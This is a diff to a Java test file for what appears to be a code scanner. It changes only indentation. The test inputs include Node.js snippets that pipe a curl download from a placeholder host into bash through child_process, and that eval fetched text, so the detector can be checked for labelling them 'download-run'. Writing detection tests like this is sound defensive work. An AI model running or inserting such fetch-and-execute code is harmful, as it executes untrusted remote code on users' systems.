@@ -197,7 +197,7 @@ final class FinderTest {
                         sorts(
                                 node(
                                         "const cp=require('child_process');cp.exec('curl -s"
-                                            + " http://x.invalid/i.sh | bash')")))
+                                                + " http://x.invalid/i.sh | bash')")))
                 .contains("download-run");
         assertThat(sorts(node("const r = await fetch(u); eval(await r.text())")))
                 .contains("download-run");
